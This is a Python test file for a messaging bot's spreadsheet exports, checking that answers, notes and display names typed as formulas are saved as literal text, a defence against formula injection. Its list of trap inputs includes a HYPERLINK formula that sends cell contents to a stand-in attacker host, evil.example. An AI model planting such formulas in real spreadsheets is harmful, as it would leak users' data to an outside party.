"""b. No cell written from what people typed is a formula (SQLite and PostgreSQL): answers,
resolution notes and messenger names that a spreadsheet would read as a formula are stored
as text, exactly as typed, in the chat export and the command line's."""

from __future__ import annotations

import io
import itertools

from openpyxl import load_workbook

from bot.app import App
from bot.channels.base import InboundEvent
from bot.clock import ManualClock
from handlers.exports.period import parse_period
from handlers.people.privacy import EVERYONE
from tests.conftest import RecordingChannel
from tests.handlers.test_incidents import EMERGENCY, local, officials, tick
from tests.helpers import invite

TRAPS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=1+1", "+1", "-1+2",
         "@SUM(1)"]
_ids = itertools.count(1)


async def says(app: App, who: str, name: str, *lines: str) -> None:
    """Lines from a console account whose messenger name is ``name``."""
    for line in lines:
        await app.inbound.handle(InboundEvent(channel="console", event_id=f"x{next(_ids)}",
                                              sender_id=who, chat_id=who, display_name=name,
                                              text=line))
    await app.delivery.drain()


def trap_cells(data: bytes) -> dict[str, list[tuple[str, str]]]:
    """Every cell of the workbook holding one of the traps: (data type, value) per trap."""
    found: dict[str, list[tuple[str, str]]] = {t: [] for t in TRAPS}
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = str(cell.value) if cell.value is not None else ""
                for trap in TRAPS:
                    if text == trap or (cell.data_type == "f" and trap in text):
                        found[trap].append((cell.data_type, text))
    return found


async def test_typed_formulas_are_stored_as_text_in_every_export(
    app: App, clock: ManualClock, channel: RecordingChannel
) -> None:
    await officials(app)
    clock.set(local(2026, 11, 18, 9, 0))
    # A chair whose messenger name is a formula files two reports whose words are formulas.
    await says(app, "t1", "@SUM(1)", await invite(app, "DEMO_CS2"))
    await says(app, "t1", "@SUM(1)", "/baocao", "2", "binh thuong", "5", TRAPS[0], "3",
               "=1+1", "xong", "gửi")
    await says(app, "t1", "@SUM(1)", "/baocao", "2", "binh thuong", "5",
               "Công nhân hỏi về thưởng", "3", "+1", "xong", "gửi")
    # An emergency, resolved with a note that is a formula (asked for after the button).
    await says(app, "demo", "demo", *EMERGENCY)
    await app.inbound.handle(InboundEvent(channel="console", event_id="gq", sender_id="canbo",
                                          chat_id="canbo", code="GQ 1"))
    await says(app, "canbo", "canbo", "-1+2")
    channel.clear()
    await says(app, "canbo", "canbo", "/xuat 2026-11")
    await tick(app)
    [chat] = [m for a, m in channel.sent if a == "canbo" and m.file is not None]
    assert chat.file is not None and chat.file.data is not None

    period = parse_period("2026-11")
    assert period is not None and app.workbook is not None
    async with app.uows() as uow:
        district = await uow.units.by_code("DEMO_HUYEN")
        assert district is not None
        command_line = io.BytesIO()
        await app.workbook.write(uow, district, period, command_line, EVERYONE)

    for data in (chat.file.data, command_line.getvalue()):
        found = trap_cells(data)
        # Each trap is in the workbook, only as text, exactly as typed.
        assert found["@SUM(1)"] == [("s", "@SUM(1)")] * 2  # the reporter of both reports
        for trap in TRAPS[:4]:
            assert found[trap] == [("s", trap)], trap
